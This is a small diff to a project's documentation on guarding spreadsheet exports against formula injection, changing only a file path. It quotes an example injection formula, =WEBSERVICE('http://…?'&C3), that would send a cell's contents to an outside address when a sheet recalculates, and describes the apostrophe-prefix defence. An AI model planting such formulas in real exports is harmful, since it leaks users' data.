@@ -2,7 +2,7 @@
 
 A measure, heading or title that begins with ``=`` (``=WEBSERVICE("http://…?"&C3)``) would be a
 formula in a workbook or a CSV file opened in a spreadsheet, sending a neighbouring cell away when
-the sheet recalculates. ``.xlsx`` cells are written with the string type (``workbook.py``); a CSV
+the sheet recalculates. ``.xlsx`` cells are written with the string type (``kg/export/workbook.py``); a CSV
 cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets an apostrophe
 before it, as OWASP advises (spreadsheets show the text; Excel hides the apostrophe). A plain
 number (``-3``, ``+2.5``) is no formula and is left as it is.
